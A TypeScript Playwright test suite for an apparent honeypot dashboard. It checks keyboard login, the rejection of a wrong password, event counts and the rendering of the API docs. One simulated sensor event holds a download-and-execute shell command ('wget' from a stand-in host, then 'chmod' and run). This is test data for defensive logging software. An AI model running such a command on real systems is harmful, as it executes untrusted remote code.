import { type Browser, chromium } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  createInstallation,
  type Installation,
  PASSWORD,
  type RunningServer,
  SENSOR_KEY,
} from './server-process.js'

let installation: Installation
let server: RunningServer
let browser: Browser

beforeAll(async () => {
  installation = await createInstallation({ ADMIN_PASSWORD: PASSWORD, BOOTSTRAP_SENSOR_KEY: SENSOR_KEY })
  server = await installation.start()
  browser = await chromium.launch({
    executablePath: process.env['CHROME_PATH'] ?? '/usr/bin/chromium',
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  })
})
afterAll(async () => {
  await browser.close()
  await server.kill('SIGTERM')
  installation.remove()
})

async function send(more: object): Promise<void> {
  const response = await fetch(`${installation.url}/log`, {
    method: 'POST',
    headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/json' },
    body: JSON.stringify({ source_ip: '203.0.113.7', time: new Date().toISOString(), session: 's', ...more }),
  })
  expect(response.status).toBe(200)
}

test('somebody logs in with the keyboard and sees the totals move', async () => {
  const page = await browser.newPage()
  const problems: string[] = []
  page.on('console', (message) => message.type() === 'error' && problems.push(message.text()))
  page.on('pageerror', (error) => problems.push(error.message))
  page.on('request', (request) => {
    if (!request.url().startsWith(installation.url)) problems.push(`request to ${request.url()}`)
  })
  await page.goto(installation.url)
  await page.getByLabel('Username').press('Tab')
  await page.getByLabel('Username').fill('admin')
  await page.getByLabel('Username').press('Tab')
  await page.keyboard.type(PASSWORD)
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'Last 24 hours' }).waitFor()
  expect(await page.getByTestId('Events').textContent()).toBe('0')
  await page.getByText('Nobody in the last 24 hours').waitFor()

  await send({ username: 'root', password: 'x' })
  await send({ command: 'wget http://192.0.2.1/x; chmod 777 x; ./x' })
  await page.getByTestId('Events').getByText('2', { exact: true }).waitFor()
  await page.getByRole('cell', { name: '203.0.113.7' }).waitFor()
  expect(problems).toEqual([])
  if (process.env['SCREENSHOT']) await page.screenshot({ path: process.env['SCREENSHOT'] })
  await page.getByRole('button', { name: 'Log out' }).click()
  await page.getByRole('heading', { name: 'Log in' }).waitFor()
  await page.close()
})

test('a wrong password is said so and logs nobody in', async () => {
  const page = await browser.newPage()
  await page.goto(installation.url)
  await page.getByLabel('Username').fill('admin')
  await page.getByLabel('Password').fill('wrong')
  await page.getByRole('button', { name: 'Log in' }).click()
  await page.getByText('the username or the password is wrong').waitFor()
  await page.close()
})

test('the pages of the API documentation render, and run no script that the policy would stop', async () => {
  const page = await browser.newPage()
  const problems: string[] = []
  page.on(
    'console',
    (message) => /script|refused to connect/i.test(message.text()) && problems.push(message.text()),
  )
  await page.goto(`${installation.url}/docs`)
  await page.getByText('Send what a sensor saw').waitFor()
  expect(problems).toEqual([])
  await page.close()
})
